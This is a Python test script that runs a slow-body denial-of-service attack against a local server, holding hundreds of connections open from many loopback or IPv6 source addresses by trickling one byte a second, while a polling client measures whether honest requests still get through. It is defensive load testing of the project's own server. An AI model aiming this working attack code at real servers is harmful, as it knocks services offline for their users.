"""Slow but valid requests: each connection sends a whole request's headers at once (so it is "in
a request", never closed for a share or a deadline) and then its body one byte a second, for the
10 s the body may take; reopened the moment the table closes it. No code, no cookie, no Origin
(a GET may carry a body). An honest phone meanwhile asks for /api/state every second on a fresh
connection, as a page that polls does.

    PYTHONPATH=. .venv/bin/python tests/attacks/slow_body_attack.py SECONDS ATTACKERS HONEST
        e.g. 40 127.0.2.{1..32}x16 127.0.0.4        (the table on 0.0.0.0: the total, 512)
             40 fd00::{1..8}x16 fd00::77            (the table on '::': one /64's 128)

ATTACKERS is ``PREFIX{FIRST..LAST}xPER``: addresses PREFIX+FIRST..PREFIX+LAST, PER each."""

import asyncio
import contextlib
import os
import re
import sys
import time

PORT = int(os.environ.get("PORT", "18080"))  # 18081: live_director.py
PATH = "/api/state" if PORT == 18080 else "/public"


def target(address: str) -> str:
    return "::1" if ":" in address else "127.0.0.1"


async def hold(address: str, until: float, opened: list[int]) -> None:
    host = target(address)
    head = (
        f"GET {PATH} HTTP/1.1\r\nHost: {'[::1]' if ':' in host else host}:{PORT}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    ).encode()
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, PORT, local_addr=(address, 0))
        except OSError:
            await asyncio.sleep(0.2)
            continue
        opened[0] += 1
        writer.write(head)
        try:
            while time.monotonic() < until and not reader.at_eof():
                writer.write(b" ")
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(4096), 1.0)
        except OSError:
            pass
        writer.close()


async def honest(address: str, until: float) -> list[str]:
    host = target(address)
    seen = []
    while time.monotonic() < until:
        start = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, PORT, local_addr=(address, 0)), 3
            )
            writer.write(
                f"GET {PATH} HTTP/1.1\r\nHost: {'[::1]' if ':' in host else host}:{PORT}\r\n"
                "Connection: close\r\n\r\n".encode()
            )
            line = await asyncio.wait_for(reader.readline(), 3)
            writer.close()
            seen.append(line.decode().strip()[9:12] or "closed")
        except (OSError, TimeoutError) as error:
            seen.append(type(error).__name__)
        await asyncio.sleep(max(0.0, 1.0 - (time.monotonic() - start)))
    return seen


def addresses(spec: str) -> list[str]:
    match = re.fullmatch(r"(.*)\{(\d+)\.\.(\d+)\}x(\d+)", spec)
    assert match, spec
    prefix, first, last, per = match.groups()
    return [f"{prefix}{n}" for n in range(int(first), int(last) + 1) for _ in range(int(per))]


async def main(seconds: float, spec: str, honest_address: str) -> None:
    until = time.monotonic() + seconds
    opened = [0]
    tasks = [asyncio.create_task(hold(a, until, opened)) for a in addresses(spec)]
    await asyncio.sleep(2)
    seen = await honest(honest_address, until)
    await asyncio.gather(*tasks)
    counts = {answer: seen.count(answer) for answer in sorted(set(seen))}
    print(f"attacker's connections opened: {opened[0]} ({len(tasks)} at a time)")
    print(f"honest /api/state from {honest_address}, one a second: {counts}")


if __name__ == "__main__":
    asyncio.run(main(float(sys.argv[1]), sys.argv[2], sys.argv[3]))
